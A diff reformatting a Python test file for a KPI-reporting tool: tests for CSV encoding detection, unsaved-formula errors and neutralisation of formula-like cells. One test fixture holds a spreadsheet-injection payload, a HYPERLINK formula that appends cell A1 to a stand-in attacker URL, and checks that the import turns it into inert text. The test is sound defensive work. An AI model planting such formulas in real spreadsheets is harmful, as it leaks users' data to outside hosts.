@@ -34,7 +34,7 @@ def test_a_windows_1252_csv_is_read_with_a_warning(params_copy, capsys):
     by = loaded(params_copy, "\r\n".join([HEADER, *ROWS]).encode("cp1252"))
     assert by[("610", "2019-02")].note == "Cost £5 per café visit"
     assert by[("320", "2019-02")].value.value == 27760
-    load_actuals(load_council(params_copy, "norfolk"))      # a build reads it again: one warning is enough
+    load_actuals(load_council(params_copy, "norfolk"))  # a build reads it again: one warning is enough
     err = capsys.readouterr().err
     assert err.count("warning: ") == 1
     assert "norfolk/actuals.csv: not UTF-8 (line 3 is not), so read as Windows-1252" in err
@@ -42,31 +42,37 @@ def test_a_windows_1252_csv_is_read_with_a_warning(params_copy, capsys):
 
 def test_a_unicode_text_file_is_read_as_utf16_with_tabs(params_copy, capsys):
     text = "\r\n".join(line.replace(",", "\t") for line in [HEADER, *ROWS])
-    by = loaded(params_copy, text.encode("utf-16"))          # Python writes the BOM, as Excel does
+    by = loaded(params_copy, text.encode("utf-16"))  # Python writes the BOM, as Excel does
     assert by[("610", "2019-02")].value.value == D("21.6")
     assert by[("610", "2019-02")].denominator.value == 4084
     assert by[("610", "2019-02")].note == "Cost £5 per café visit"
     big_endian = "\ufeff" + text
     by = loaded(params_copy, big_endian.encode("utf-16-be"))
     assert by[("320", "2019-02")].value.value == 27760
-    assert capsys.readouterr().err == ""                     # no guess was made
+    assert capsys.readouterr().err == ""  # no guess was made
 
 
 def test_a_european_csv_reads_semicolons_and_decimal_commas_with_a_warning(params_copy, capsys):
-    text = "kpi_id;month;value;numerator;denominator;status;note\n" \
-           "320;2019-02;27.760;;;;\n610;2019-02;21,6;1.073;4.084;;\n"
+    text = (
+        "kpi_id;month;value;numerator;denominator;status;note\n320;2019-02;27.760;;;;\n610;2019-02;21,6;1.073;4.084;;\n"
+    )
     by = loaded(params_copy, text.encode("utf-8"))
     assert by[("320", "2019-02")].value.value == 27760
     assert by[("610", "2019-02")].value.value == D("21.6")
     assert (by[("610", "2019-02")].numerator.value, by[("610", "2019-02")].denominator.value) == (1073, 4084)
-    assert "norfolk/actuals.csv: read as a European-locale CSV: cells separated by ';' and ',' as the decimal point" \
+    assert (
+        "norfolk/actuals.csv: read as a European-locale CSV: cells separated by ';' and ',' as the decimal point"
         in capsys.readouterr().err
+    )
 
 
 def test_bytes_no_encoding_can_read_are_named_by_line(params_copy):
     data = f"{HEADER}\n{ROWS[0]}\n610,2019-02,21.6,,,,bad \x81 byte\n".encode("latin-1")  # 0x81: unused in 1252
-    with pytest.raises(InputError, match=r"norfolk/actuals.csv:3: cannot be read as CP1252 text: save it from the "
-                                         r"spreadsheet as CSV UTF-8"):
+    with pytest.raises(
+        InputError,
+        match=r"norfolk/actuals.csv:3: cannot be read as CP1252 text: save it from the "
+        r"spreadsheet as CSV UTF-8",
+    ):
         loaded(params_copy, data)
 
 
@@ -87,7 +93,7 @@ def formula_pack(tmp_path, cell):
     with open(PACK, encoding="utf-8", newline="") as handle:
         for row in csv.reader(handle):
             sheet.append(row)
-    sheet[cell] = "=AVERAGE(E2:I2)"        # openpyxl saves the formula but no result, as any program does
+    sheet[cell] = "=AVERAGE(E2:I2)"  # openpyxl saves the formula but no result, as any program does
     book.save(tmp_path / "pack.xlsx")
     return tmp_path / "pack.xlsx"
 
@@ -95,8 +101,10 @@ def formula_pack(tmp_path, cell):
 def test_a_formula_without_a_saved_value_is_refused_naming_the_cell(tmp_path):
     with pytest.raises(InputError) as caught:
         read_pack(formula_pack(tmp_path, "J2"))
-    assert str(caught.value).endswith("pack.xlsx:2: Aug pack!J2: PM_KPI_01: a formula whose result was not saved in "
-                                      "the file: open the file in Excel and save it, or paste the cells as values")
+    assert str(caught.value).endswith(
+        "pack.xlsx:2: Aug pack!J2: PM_KPI_01: a formula whose result was not saved in "
+        "the file: open the file in Excel and save it, or paste the cells as values"
+    )
 
 
 def test_a_formula_with_its_value_saved_is_read_as_the_value(tmp_path):
@@ -130,18 +138,27 @@ def test_a_formula_in_a_description_is_written_as_text_and_said(lincs_copy, tmp_
     report = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")
     kpis = (lincs_copy / "lincolnshire" / "kpis.csv").read_text(encoding="utf-8")
     assert 'PM_KPI_01,PM,"\'=HYPERLINK(""http://evil.example/?""&A1,""% paid on time"")"' in kpis
-    assert any(line.endswith("PM_KPI_01: the description starts like a spreadsheet formula, so kpis.csv holds it "
-                             "with a leading ' and spreadsheets show it as text") for line in report.lines)
+    assert any(
+        line.endswith(
+            "PM_KPI_01: the description starts like a spreadsheet formula, so kpis.csv holds it "
+            "with a leading ' and spreadsheets show it as text"
+        )
+        for line in report.lines
+    )
     before = digest(lincs_copy / "lincolnshire")
-    again = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")     # the same pack again: no change
+    again = import_pack(lincs_copy, "lincolnshire", tmp_path / "pack.csv")  # the same pack again: no change
     assert digest(lincs_copy / "lincolnshire") == before
-    assert again.lines[-2:] == ["no file changed", "48 KPI rows read: 0 months added, 0 changed, 245 unchanged; "
-                                                   "0 catalogue changes"]
+    assert again.lines[-2:] == [
+        "no file changed",
+        "48 KPI rows read: 0 months added, 0 changed, 245 unchanged; 0 catalogue changes",
+    ]
 
 
 def test_only_text_cells_are_neutralised():
-    text = table_text(("a", "b", "c", "d", "e", "f"), [["=1+1", "-5", "+2.5", "@SUM(A1)", "-x", "\tTab"],
-                                                       ["-1,234", "12%", "plain", "", "a=b", 7]])
+    text = table_text(
+        ("a", "b", "c", "d", "e", "f"),
+        [["=1+1", "-5", "+2.5", "@SUM(A1)", "-x", "\tTab"], ["-1,234", "12%", "plain", "", "a=b", 7]],
+    )
     assert text == "a,b,c,d,e,f\n'=1+1,-5,+2.5,'@SUM(A1),'-x,'\tTab\n\"-1,234\",12%,plain,,a=b,7\n"
     assert neutralise("\rCR") == "'\rCR"
 
@@ -152,19 +169,27 @@ def test_the_scores_export_neutralises_formula_text(lincs_copy):
     from kpilib.scores import contract_scores_csv
 
     folder = lincs_copy / "lincolnshire"
-    for name in ("kpis.csv", "levels.csv", "actuals.csv"):   # a KPI reference typed as a formula
+    for name in ("kpis.csv", "levels.csv", "actuals.csv"):  # a KPI reference typed as a formula
         path = folder / name
         path.write_text(path.read_text(encoding="utf-8").replace("\nF_KPI_01,", "\n=F_KPI_01,"), encoding="utf-8")
     council = load_council(lincs_copy, "lincolnshire")
     escalations = load_escalations(folder / "escalations.csv", council.indicators)
-    text = contract_scores_csv(build_contract_scorecard(council, load_actuals(council), escalations,
-                                                        Month.parse("2017-08")))
+    text = contract_scores_csv(
+        build_contract_scorecard(council, load_actuals(council), escalations, Month.parse("2017-08"))
+    )
     rows = list(csv.reader(text.splitlines()))
-    assert [r[1] for r in rows if r[0] == "'=F_KPI_01"] == ["2017-03", "2017-04", "2017-05", "2017-06", "2017-07",
-                                                             "2017-08"]
+    assert [r[1] for r in rows if r[0] == "'=F_KPI_01"] == [
+        "2017-03",
+        "2017-04",
+        "2017-05",
+        "2017-06",
+        "2017-07",
+        "2017-08",
+    ]
     assert not any(r[0].startswith("=") for r in rows)
 
 
+@pytest.mark.e2e
 def test_make_report_prints_each_input_warning_once(params_copy, tmp_path, capsys):
     """The driver reads actuals.csv before the kernel does and then relays the kernel's
     warnings: a guess about the file is still said once."""
@@ -172,7 +197,21 @@ def test_make_report_prints_each_input_warning_once(params_copy, tmp_path, capsy
 
     rows = (PROJECT_ROOT / "params" / "norfolk" / "actuals.csv").read_text(encoding="utf-8")
     (params_copy / "norfolk" / "actuals.csv").write_bytes(rows.replace(",", ";").encode("cp1252"))
-    assert main(["--params", str(params_copy), "report", "--month", "2019-02", "--council", "norfolk",
-                 "--outputs", str(tmp_path / "out")]) == 0
+    assert (
+        main(
+            [
+                "--params",
+                str(params_copy),
+                "report",
+                "--month",
+                "2019-02",
+                "--council",
+                "norfolk",
+                "--outputs",
+                str(tmp_path / "out"),
+            ]
+        )
+        == 0
+    )
     err = capsys.readouterr().err
     assert err.count("read as a European-locale CSV") == 1
